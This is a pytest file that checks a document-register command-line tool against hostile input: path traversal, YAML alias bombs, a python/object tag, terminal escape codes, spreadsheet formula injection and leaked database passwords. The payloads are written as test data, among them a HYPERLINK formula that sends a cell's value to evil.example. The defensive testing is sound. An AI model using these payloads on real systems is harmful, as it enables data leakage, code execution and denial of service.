"""The register's doors under hostile input (issue 19): an import that names files outside
its folder, YAML bombs, control characters, formulas, passwords in URLs, locations that
keep nothing, floods of steps — each refused in one line (exit 1) or written harmlessly,
and the register unchanged after every refused import. On SQLite: nothing here is about
the database server."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import time
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
import yaml

from tests.conftest import SAMPLES
from xbdocs.registry import store
from xbdocs.registry.store import MAX_STEPS

PAVLODAR = "altai-pavlodar-2012"
#: What a file an attacker wants printed holds: none of it may reach the terminal.
SECRET = "TOPSECRET-line-one\nTOPSECRET: line two\n- TOPSECRET three\n"


@pytest.fixture
def db(tmp_path, monkeypatch) -> Path:
    """A register of its own (XBDOCS_DB), the current folder a scratch one."""
    path = tmp_path / "registry.sqlite3"
    monkeypatch.setenv("XBDOCS_DB", str(path))
    scratch = tmp_path / "cwd"
    scratch.mkdir()
    monkeypatch.chdir(scratch)
    return path


@pytest.fixture
def folder(tmp_path) -> Path:
    """An import's folder, with the Pavlodar answers file in it."""
    where = tmp_path / "import"
    where.mkdir()
    shutil.copy(SAMPLES / f"{PAVLODAR}.yaml", where)
    return where


def _import(folder: Path, text: str, name: str = "import.yaml") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def _entry(answers: str = f"{PAVLODAR}.yaml", **fields) -> str:
    return yaml.safe_dump({"agreements": [{"answers": answers, **fields}]},
                          allow_unicode=True)


def _error_lines(result) -> list[str]:
    assert "Traceback" not in result.err and "internal error" not in result.err, result.err
    return result.err.splitlines()


# --- 1. an import reads only answers files in its own folder ----------------------------------

@pytest.mark.parametrize("name, message", [
    ("/etc/passwd", "«/etc/passwd»: name a file in the folder of this file"),
    ("../outside.yaml", "«../outside.yaml»: outside the folder of this file"),
    ("sub/../../outside.yaml", "outside the folder of this file"),
    ("link.yaml", "«link.yaml»: outside the folder of this file"),  # a symlink out of it
    ("notes.txt", "«notes.txt» is not an answers file; check it with: xbdocs check"),
    ("fifo.yaml", "«fifo.yaml»: not a regular file"),  # never opened: it would block
    ("sub", "«sub»: this is a folder"),
])
def test_an_import_opens_only_answers_files_in_its_own_folder(run, db, folder, name, message):
    outside = folder.parent / "outside.yaml"
    outside.write_text(SECRET, encoding="utf-8")
    (folder / "notes.txt").write_text(SECRET, encoding="utf-8")
    (folder / "link.yaml").symlink_to(outside)
    (folder / "sub").mkdir()
    os.mkfifo(folder / "fifo.yaml")
    result = run("registry", "import", _import(folder, _entry(name)))
    assert result.code == 1
    lines = _error_lines(result)
    assert len(lines) == 1 and message in lines[0], lines
    assert "import.yaml:2: agreements[0].answers: " in lines[0]
    assert "TOPSECRET" not in result.err + result.out
    assert "the register is empty" in run("registry", "list").out


def test_an_answers_file_in_a_subfolder_of_the_import_is_read(run, db, folder):
    (folder / "sub").mkdir()
    shutil.move(folder / f"{PAVLODAR}.yaml", folder / "sub")
    result = run("registry", "import", _import(folder, _entry(f"sub/../sub/{PAVLODAR}.yaml")))
    assert result.code == 0, result.err
    assert "recorded as № 1" in result.out


# --- 2. no exported cell is a formula ----------------------------------------------------------

def test_formulas_in_notes_and_numbers_are_exported_as_text(run, db, folder, tmp_path):
    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    result = run("registry", "import", _import(folder, _entry(notes=formula, history=[
        {"status": "signed", "date": "19.09.2012", "note": "@SUM(A1)"},
        {"status": "registered", "date": "20.09.2012", "number": "=1+2"}])))
    assert result.code == 0, result.err
    assert run("registry", "set", "1", "in-force", "--date", "21.09.2012", "--number", "+7",
               "--note", "-1").code == 0
    assert run("registry", "export", "--format", "xlsx", "-o", tmp_path / "r.xlsx").code == 0
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert sheet["B2"].value == "'=1+2" and sheet["B2"].data_type == "s"
    assert sheet["J2"].value == "'" + formula and sheet["J2"].data_type == "s"
    assert run("registry", "export", "--format", "csv", "-o", tmp_path / "r.csv").code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_bytes().decode("utf-8-sig"),
                                       newline=""), delimiter=";"))
    assert [cell for row in rows for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert rows[1][1] == "'=1+2" and rows[1][9] == "'" + formula


# --- 3. no password in any message -------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "postgresql+nosuchdriver://clerk:s3cr3t-pw@db.example/xbdocs",
    "postgresql://clerk:s3cr3t-pw@[::1/xbdocs",             # a malformed IPv6 host
    "postgresql://clerk:s3cr3t-pw@[::1]:99999/xbdocs",       # a port past the last one
    "postgresql+psycopg2://clerk:s3cr3t-pw@db.example/x",   # a driver not installed
    "mysql://clerk:s3cr3t-pw@db.example/xbdocs",
    "postgresql://clerk:s3cr3t-pw@@[/xbdocs",
    "postgresql://clerk:s3cr3t pw with spaces@[::1/xbdocs",
    "nosuchdb://clerk:s3cr3t-pw@host/db",
])
def test_no_message_shows_the_password_of_a_url(run, db, url):
    result = run("registry", "--db", url, "list")
    assert result.code == 1
    lines = _error_lines(result)
    assert len(lines) == 1 and "cannot open the register" in lines[0], lines
    assert "s3cr3t" not in result.err + result.out and "clerk:***@" in lines[0]
    where = run("registry", "--db", url, "where")
    assert "s3cr3t" not in where.err + where.out and "Traceback" not in where.err


def test_a_database_error_is_told_in_the_users_words(run, tmp_path):
    """SQLite's and PostgreSQL's errors are English whatever the language («file is not a
    database»); the clerk reads what it means and what to do, in Russian."""
    not_a_register = tmp_path / "notes.sqlite3"
    not_a_register.write_text("мои заметки\n" * 50, encoding="utf-8")
    result = run("registry", "--db", not_a_register, "list", lang="ru")
    assert result.code == 1
    assert "не удаётся открыть реестр: файл не является реестром" in result.err
    assert "file is not a database" not in result.err
    refused = run("registry", "--db", "postgresql+psycopg://clerk:pw@127.0.0.1:1/x", "list",
                  lang="ru")
    assert refused.code == 1 and "сервер базы данных не отвечает" in refused.err
    assert "Connection refused" not in refused.err and ":pw@" not in refused.err


# --- 4. YAML that would eat the machine -------------------------------------------------------

#: 370 bytes that safe_load expanded for 164 s into 2.3 GB.
ALIAS_BOMB = ("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
              "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
              "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
              "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"
              "agreements: [*h]\n")


@pytest.mark.parametrize("text, message", [
    (ALIAS_BOMB, "import.yaml:1: a: anchors («&a») are not allowed in this file"),
    ("agreements: " + "[" * 999 + "]" * 999 + "\n", "nested more than 20 levels deep"),
    ("agreements:\n  - answers: !!python/object:os.system x\n",
     "import.yaml:2: agreements[0].answers: tags («!!python/object:os.system») are not allowed"),
    ("agreements: []\n---\nagreements: []\n", "more than one YAML document"),
    ("agreements:\n  - answers: a.yaml\n    answers: b.yaml\n",
     "import.yaml:3: agreements[0].answers: the key is given twice"),
])
def test_hostile_yaml_is_refused_quickly_with_its_line(run, db, folder, text, message):
    started = time.monotonic()
    result = run("registry", "import", _import(folder, text))
    assert time.monotonic() - started < 10
    assert result.code == 1 and message in result.err, result.err
    _error_lines(result)


# --- 5. control characters: refused at the door, tolerated in what is stored ------------------

@pytest.mark.parametrize("fields, message", [
    ({"notes": "a\x00b"}, "agreements[0].notes: contains the control character U+0000"),
    ({"notes": "\x1b[2Jcleared"}, "agreements[0].notes: contains the control character U+001B"),
    ({"notes": "right\u202eleft"}, "agreements[0].notes: must not hold tabs, carriage returns "
                                   "or direction marks"),
    ({"history": [{"status": "signed", "number": "1\x01"}]},
     "agreements[0].history[0].number: contains the control character U+0001"),
    ({"history": [{"status": "signed", "note": "two\nlines"}]},
     "agreements[0].history[0].note: must be one line of text"),
    ({"history": [{"status": "registered", "number": "7" * 61}]},
     "agreements[0].history[0].number: too long: 61 characters, at most 60"),
])
def test_control_characters_are_refused_in_an_import(run, db, folder, fields, message):
    result = run("registry", "import", _import(folder, _entry(**fields)))
    assert result.code == 1 and message in result.err, result.err
    assert "the register is empty" in run("registry", "list").out


def test_control_characters_are_refused_in_an_import_table(run, db, tmp_path):
    from tests.test_batch import _rows, _write_csv

    row = _rows(PAVLODAR)[0]
    row.update({"register.signed": "19.09.2012", "register.notes": "x\x07y",
                "register.number": "\x1b[31m"})
    result = run("registry", "import", _write_csv(tmp_path / "old.csv", [row]))
    assert result.code == 1
    assert "old.csv:2: register.number: contains the control character U+001B" in result.err
    assert "old.csv:2: register.notes: contains the control character U+0007" in result.err
    assert "the register is empty" in run("registry", "list").out


@pytest.mark.parametrize("option, value, message", [
    ("--number", "\x1b[31m17", "number: contains the control character U+001B"),
    ("--number", "1\x00", "number: contains the control character U+0000"),
    ("--number", "№" * 100, "number: too long: 100 characters, at most 60"),
    ("--note", "\x01", "note: contains the control character U+0001"),
    ("--note", "a\nb", "note: must be one line of text"),
    ("--by", "\x1b]0;owned\x07", "by: contains the control character U+001B"),
])
def test_control_characters_are_refused_by_registry_set(run, db, folder, option, value,
                                                        message):
    assert run("registry", "import", _import(folder, _entry())).code == 0
    result = run("registry", "set", "1", "signed", "--date", "19.09.2012", option, value)
    assert result.code == 1
    lines = _error_lines(result)
    assert lines == [f"error: {message}"] or message in lines[0], lines
    assert run("registry", "list").out.split()[1] == "draft"  # nothing recorded


def _damage(path: Path) -> None:
    """What a register written before these checks (or edited by hand) may hold."""
    engine = sa.create_engine(store.url_of(str(path)))
    with engine.begin() as connection:
        connection.execute(sa.text(
            "UPDATE agreements SET notes = :notes, registration_number = :number, "
            "title = title || :bell, signed_on = '19.09.2012', status_on = 'вчера', "
            "term_years = 'abc', answers = :answers"), {
                "notes": "a\x00b\x1b[31mc\x01d\nвторая\rстрока\x0c",
                "number": "=HYPERLINK(\"http://evil.example\")", "bell": "\x07\ufffe",
                "answers": json.dumps({"filing": {"negotiations_date": "15.02.2027",
                                                  "approval": {"document": 5}}})})
        connection.execute(sa.text("UPDATE changes SET note = :note, number = :number, "
                                   "\"on\" = '2012/09/19'"),
                           {"note": "\x1b[2J", "number": "\x00"})
    engine.dispose()


def test_a_damaged_register_still_lists_reminds_and_exports(run, db, folder, tmp_path,
                                                           monkeypatch):
    assert run("registry", "import", _import(folder, _entry(history=[
        {"status": "signed", "date": "19.09.2012"}]))).code == 0
    _damage(db)
    monkeypatch.setenv("XBDOCS_TODAY", "2027-01-10")
    for args in (["list"], ["list", "--format", "json"], ["show", "1"], ["due", "--all"]):
        result = run("registry", *args)
        assert result.code in (0, 3, 4), (args, result.err)
        _error_lines(result)
    for kind in ("docx", "xlsx", "csv"):
        result = run("registry", "export", "--format", kind, "-o", tmp_path / f"r.{kind}")
        assert result.code == 0, (kind, result.err)
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    assert sheet["J2"].value == "a\\x00b\\x1b[31mc\\x01d\nвторая\\x0dстрока\\x0c"
    assert sheet["G2"].value == dt.datetime(2012, 9, 19)  # «19.09.2012» read as the date
    assert sheet["B2"].data_type == "s" and sheet["B2"].value.startswith("'=")
    # And the damaged entry can still move on.
    assert run("registry", "set", "1", "in-force", "--date", "20.09.2012").code == 0


# --- 6. locations that would keep nothing, or cannot be opened ---------------------------------

@pytest.mark.parametrize("location, message", [
    ("sqlite://", "an in-memory database keeps nothing"),
    ("sqlite:///", "an in-memory database keeps nothing"),
    ("sqlite:///:memory:", "an in-memory database keeps nothing"),
    ("sqlite:///file:register?mode=memory&uri=true", "an in-memory database keeps nothing"),
    (" ", "the register's location « » names no register"),
    ("-", "the register's location «-» names no register"),
])
def test_a_register_that_would_keep_nothing_is_refused(run, db, folder, location, message):
    source = _import(folder, _entry())
    result = run("registry", "--db", location, "import", source)
    assert result.code == 1
    lines = _error_lines(result)
    assert len(lines) == 1 and message in lines[0], lines
    assert "recorded as" not in result.out
    assert list(Path.cwd().iterdir()) == []  # no file « » or «-» made


@pytest.mark.parametrize("location, message", [
    ("postgresql://clerk@[::1/xbdocs", "cannot open the register"),
    ("sqlite:///%00", "a file name cannot hold the character NUL"),
    ("loop.sqlite3", "the path cannot be resolved (a loop of symbolic links"),
    ("sqlite:///loop.sqlite3", "the path cannot be resolved"),
    ("a-folder", "it is a folder; give a file in it, such as"),
    ("a-file/registry.sqlite3", "a part of its path is a file, not a folder"),
    ("/proc/self/registry.sqlite3", "cannot open the register"),
    ("/dev/null", "not a regular file"),
])
def test_a_location_that_cannot_be_opened_is_one_line(run, db, location, message):
    Path("loop.sqlite3").symlink_to("loop-back")
    Path("loop-back").symlink_to("loop.sqlite3")
    Path("a-folder").mkdir()
    Path("a-file").write_text("")
    for command in (["list"], ["set", "1", "signed"], ["export", "--format", "csv", "-o",
                                                        "r.csv"]):
        result = run("registry", "--db", location, *command)
        assert result.code == 1, result.err
        lines = _error_lines(result)
        assert len(lines) == 1 and message in lines[0], lines


# --- 8. bounds, speed, and a refused import changes nothing -------------------------------------

def _steps(count: int) -> list[dict]:
    """Signed, in force, then renewed again and again: ``count`` steps, each its own dict
    (a shared one would be dumped as a YAML anchor, which an import refuses)."""
    return [{"status": "signed", "date": "19.09.2012"},
            {"status": "in-force", "date": "19.09.2012"}] + [
        {"status": "renewed", "date": "19.09.2017"} for _ in range(count - 2)]


def test_ten_thousand_steps_are_refused_at_once(run, db, folder):
    """A 440 KB import of one agreement with 10,000 steps took 41 s here (147 s on the
    attacker's machine); at most 200 steps are allowed, so it is refused while reading."""
    source = _import(folder, "agreements:\n  - answers: altai-pavlodar-2012.yaml\n"
                             "    history:\n" + "".join(
                                 f"      - {{status: {step['status']}, date: {step['date']}}}\n"
                                 for step in _steps(10_000)))
    started = time.monotonic()
    result = run("registry", "import", source)
    assert time.monotonic() - started < 10
    assert result.code == 1
    assert "import.yaml:3: agreements[0].history: 10000 steps: at most 200 for one agreement" \
        in result.err, result.err


def test_two_hundred_steps_are_recorded_in_one_go(run, db, folder):
    started = time.monotonic()
    result = run("registry", "import", _import(folder, _entry(history=_steps(200))))
    assert time.monotonic() - started < 10
    assert result.code == 0, result.err
    shown = run("registry", "show", "1").out
    assert shown.count(": renewed 19.09.2017") == 198


def test_more_agreements_than_one_import_takes_are_refused(run, db, folder):
    text = "agreements:\n" + "  - answers: altai-pavlodar-2012.yaml\n" * 10_001
    result = run("registry", "import", _import(folder, text))
    assert result.code == 1
    assert "agreements: 10001 agreements: at most 10000 in one import; split the file" \
        in result.err


#: Imports refused, each with what its message says.
HOSTILE_IMPORTS = {
    "alias-bomb": (ALIAS_BOMB, "import.yaml:1: a: anchors («&a») are not allowed"),
    "deep": ("agreements: " + "[" * 999 + "]" * 999 + "\n", "nested more than 20 levels deep"),
    "etc-passwd": (_entry("/etc/passwd"), "«/etc/passwd»: name a file in the folder"),
    "control-notes": (_entry(notes="\x1b[2J"), "agreements[0].notes: contains the control "
                                               "character U+001B"),
    "many-steps": (_entry(history=_steps(MAX_STEPS + 1)),
                   "agreements[0].history: 201 steps: at most 200 for one agreement"),
    # The first agreement is fine; the second's step is not: neither is recorded.
    "late-refusal": (yaml.safe_dump({"agreements": [
        {"answers": "altai-east-kazakhstan-2010.yaml",
         "history": [{"status": "signed", "date": "07.09.2010"}]},
        {"answers": "uglovsky-borodulikha-municipal.yaml",
         "history": [{"status": "in-force", "date": "01.01.2020"},
                     {"status": "draft", "date": "02.01.2020"}]}]}),
        "import.yaml:11: agreements[1].history[1].status: the agreement by this step is «in "
        "force»: it cannot go back to «draft»; possible: renewed, expired, terminated"),
    "already-recorded": (_entry(), "import.yaml:2: agreements[0]: this agreement is in the "
                                   "register already, as № 1"),
    "not-a-mapping": ("- agreements\n", "import.yaml:1: expected a section with the key "
                                        "agreements:"),
    "empty": ("", "import.yaml: the file is empty"),
}


@pytest.mark.parametrize("name", HOSTILE_IMPORTS)
def test_a_refused_import_leaves_the_register_as_it_was(run, db, folder, tmp_path, name):
    for other in ("altai-east-kazakhstan-2010", "uglovsky-borodulikha-municipal"):
        shutil.copy(SAMPLES / f"{other}.yaml", folder)
    assert run("registry", "import", _import(folder, _entry(), "first.yaml")).code == 0
    before = run("registry", "list", "--format", "json").out
    text, message = HOSTILE_IMPORTS[name]
    result = run("registry", "import", _import(folder, text))
    assert result.code == 1
    assert len(_error_lines(result)) == 1 and message in result.err, result.err
    assert run("registry", "list", "--format", "json").out == before
    assert run("registry", "due", "--all").code in (0, 3, 4)
    for kind in ("docx", "xlsx", "csv"):
        assert run("registry", "export", "--format", kind, "-o", tmp_path / f"r.{kind}",
                   "--force").code == 0


# --- the package a clerk adds -----------------------------------------------------------------

@pytest.fixture(scope="module")
def package(tmp_path_factory) -> Path:
    """The Pavlodar sample, built once (agreement stage); tests change copies of it."""
    from xbdocs import build

    folder = tmp_path_factory.mktemp("package") / PAVLODAR
    build.build(SAMPLES / f"{PAVLODAR}.yaml", folder, today=dt.date(2026, 11, 27))
    return folder


@pytest.mark.parametrize("change, message", [
    (lambda out: (out / "manifest.json").write_text('{"answers": ' * 50_000 + "1" +
                                                     "}" * 50_000),
     "manifest.json: its manifest cannot be read (maximum recursion depth exceeded"),
    (lambda out: (out / "manifest.json").write_text('{"answers": {"sha256": []}}'),
     "manifest.json: its manifest cannot be read (not the manifest xbdocs writes)"),
    (lambda out: (out / "manifest.json").write_bytes(bytes(range(256))),
     "manifest.json: its manifest cannot be read ("),
    (lambda out: ((out / "manifest.json").unlink(), os.mkfifo(out / "manifest.json")),
     "not a regular file; expected a package's manifest (JSON)"),
    (lambda out: ((out / "built-from.yaml").unlink(),
                  (out / "built-from.yaml").symlink_to(out.parent / "secret.yaml")),
     "«built-from.yaml»: outside the folder of this file"),
    (lambda out: (out / "built-from.yaml").write_text(SECRET),
     "«built-from.yaml» is not an answers file"),
])
def test_a_tampered_package_is_refused_in_one_line(run, db, package, tmp_path, change,
                                                   message):
    out = tmp_path / "out"
    shutil.copytree(package, out)
    (tmp_path / "secret.yaml").write_text(SECRET, encoding="utf-8")
    change(out)
    result = run("registry", "add", out)
    assert result.code == 1
    lines = _error_lines(result)
    assert len(lines) == 1 and message in lines[0], lines
    assert "TOPSECRET" not in result.err + result.out
    assert "the register is empty" in run("registry", "list").out


def test_an_entry_number_no_database_holds_is_no_entry(run, db, folder):
    assert run("registry", "import", _import(folder, _entry())).code == 0
    for args in (["set", "99999999999999999999", "signed"], ["show", "99999999999999999999"],
                 ["show", "0"], ["set", "-1", "signed"]):
        result = run("registry", *args)
        assert result.code in (1, 2), (args, result.err)
        _error_lines(result)
    assert "no agreement № 99999999999999999999 in the register" in run(
        "registry", "show", "99999999999999999999").err
